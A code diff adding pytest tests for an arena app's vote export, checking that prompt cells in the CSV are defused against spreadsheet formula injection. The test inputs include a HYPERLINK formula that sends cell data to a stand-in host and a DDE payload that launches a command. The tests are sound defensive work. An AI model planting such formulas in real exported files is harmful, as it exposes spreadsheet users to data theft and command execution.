@@ -4,13 +4,16 @@ behaviour)."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from typing import Any
 
 import pytest
 from django.test import Client
 
 from arena.battles.models import Arena
-from tests.arena.test_privacy import voted_battle
+from tests.arena.test_privacy import ARENA, body_of, voted_battle
 
 
 @pytest.fixture(autouse=True)
@@ -30,3 +33,33 @@ def test_a_hostile_token_is_a_404_never_a_500(voter: Any, run_on_commit: Any,
     assert voter.post(f"/api/battles/{battle['id']}/share").status_code == 201
     client = Client(raise_request_exception=False)
     assert client.get(path).status_code == 404
+
+
+@pytest.mark.parametrize("prompt", [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+    "@SUM(1+1)", "\t=1+1", "\r=1+1",
+])
+def test_a_published_prompt_cannot_become_a_spreadsheet_formula(
+    voter: Any, run_on_commit: Any, settings: Any, prompt: str
+) -> None:
+    """With ARENA_EXPORT_PROMPTS a voter writes the prompt cells of the CSV researchers open in
+    a spreadsheet: a cell starting with = + - @ (or a tab/CR before one) would run as a formula
+    (CSV injection). The CSV cell is defused with a leading apostrophe; the JSONL keeps the
+    exact text."""
+    settings.ARENA_EXPORT_PROMPTS = True
+    voted_battle(voter, run_on_commit, prompt)
+    text = body_of(voter.get(f"{ARENA}/votes?format=csv")).decode()
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["prompt"][0] == "'"
+    assert row["prompt"][1:] == prompt.strip()  # the text itself is intact after the mark
+    jsonl = body_of(voter.get(f"{ARENA}/votes?format=jsonl")).decode()
+    assert json.loads(jsonl)["prompt"] == prompt.strip()
+
+
+def test_a_plain_prompt_is_exported_unchanged(voter: Any, run_on_commit: Any,
+                                              settings: Any) -> None:
+    settings.ARENA_EXPORT_PROMPTS = True
+    voted_battle(voter, run_on_commit, "a harbour at dawn, 3 boats")
+    text = body_of(voter.get(f"{ARENA}/votes?format=csv")).decode()
+    assert [r["prompt"] for r in csv.DictReader(io.StringIO(text))] == [
+        "a harbour at dawn, 3 boats"]
